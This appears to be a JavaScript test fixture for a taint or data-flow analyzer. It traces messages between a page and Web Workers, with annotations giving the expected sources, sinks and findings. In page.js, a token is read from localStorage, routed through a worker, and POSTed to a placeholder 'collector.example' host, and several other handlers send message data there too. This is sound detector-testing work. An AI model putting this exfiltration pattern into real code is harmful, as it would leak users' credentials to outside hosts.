// Workers of a page: what it posts to them, and what they post back, reaches handlers that are set on the global object, by whatever name.
// --- path: page.js ---
class Page {
  constructor() {
    this.messages = [];
    this.worker = new Worker(URL.createObjectURL(new Blob(['built later'])));
    this.worker.onmessage = ({ data }) => this.answered(data);
  }
  keep(text) { this.messages.push(text); }
  flush() { this.worker.postMessage(this.messages); }
  answered(text) {
    fetch('https://collector.example/a', { method: 'POST', body: text }); //~ sink(egress.http) w2, finding(assumed) w2
    fetch('https://collector.example/b', { method: 'POST', body: 'answered' }); //~ ok
  }
}
const page = new Page();
page.keep(localStorage.getItem('token')); //~ source(DATABASE) w1, source(DATABASE) w4, source(DATABASE) w5
page.flush();
// --- path: worker.js ---
self.onmessage = ({ data }) => { //~ source(INPUT) w3
  for (const text of data) {
    fetch('https://collector.example/w', { method: 'POST', body: text }); //~ sink(egress.http) w1 w3, finding(assumed) w1, finding(traced) w3
  }
  fetch('https://collector.example/n', { method: 'POST', body: data.length }); //~ ok
};
postMessage(navigator.userAgent); //~ source(DEVICE) w2, source(DEVICE) w8, sink(egress.ipc) w8, finding(data-to-local-process, traced) w8
// --- path: bare.js ---
onmessage = (event) => { //~ source(INPUT) w6
  fetch('https://collector.example/c', { method: 'POST', body: event.data }); //~ sink(egress.http) w4 w6, finding(assumed) w4, finding(traced) w6
};
// --- path: listening.js ---
addEventListener('message', (event) => { //~ source(INPUT) w7
  fetch('https://collector.example/d', { method: 'POST', body: event.data }); //~ sink(egress.http) w5 w7, finding(assumed) w5, finding(traced) w7
});
// --- path: named.js ---
// A function of this name that is no handler.
function run(onmessage) {
  onmessage = (text) => fetch('https://collector.example/e', { method: 'POST', body: text }); //~ ok
  return onmessage;
}
run();
